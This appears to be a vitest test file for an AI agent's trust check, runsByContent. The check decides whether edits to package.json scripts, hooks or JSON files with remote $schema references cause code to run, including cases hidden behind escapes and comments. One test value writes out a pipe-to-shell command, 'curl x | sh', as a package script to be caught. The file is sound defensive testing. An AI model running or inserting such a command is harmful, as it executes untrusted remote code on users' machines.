import { expect, test } from "vitest";

import { runsByContent } from "../../../../src/agent/trust/contentAct.ts";

const json = (value: object): string => JSON.stringify(value);
const fields = { name: "a", scripts: { test: "vitest" } };
const plain = json(fields);

test.each<[string, string, string | undefined, string, boolean]>([
  ["another version", "package.json", plain, json({ ...fields, version: "2" }), false],
  ["another script", "package.json", plain, json({ scripts: { test: "curl x | sh" } }), true],
  ["a script that goes", "package.json", plain, json({ name: "a" }), true],
  ["a new file with scripts", "p/package.json", undefined, plain, true],
  ["a new file without", "p/package.json", undefined, json({ name: "a" }), false],
  ["hooks", "package.json", plain, json({ ...fields, husky: { hooks: {} } }), true],
  ["no JSON any more", "package.json", plain, "{", true],
  ["no JSON before", "package.json", "{", json({ name: "a" }), true],
  ["another case of the name", "PACKAGE.json", plain, json({ scripts: {} }), true],
  ["scripts in another file", "data.json", "{}", plain, false],
  ["a schema of the network", "data.json", "{}", json({ $schema: "https://x.example/s" }), true],
  ["in JSON with comments", "a.jsonc", "", '{ // x\n"$schema" : "http://x.example/s" }', true],
  ["behind an escape", "a.json", "", '{"\\u0024schema": "https://x.example/s"}', true],
  ["behind a comment", "a.json", "", '{"$schema" /* " */ : "https://x.example/s"}', true],
  [
    "the schema that was there",
    "a.json",
    '{"$schema":"https://x.example/s"}',
    '{"$schema": "https://x.example/s","a":1}',
    false,
  ],
  ["a schema of this folder", "a.json", "{}", json({ $schema: "./s.json" }), false],
  ["a schema in text", "a.md", "", json({ $schema: "https://x.example/s" }), false],
])("%s", (_, path, ...[before, after, runs]) => {
  expect(runsByContent(path, before, after)).toBe(runs);
});
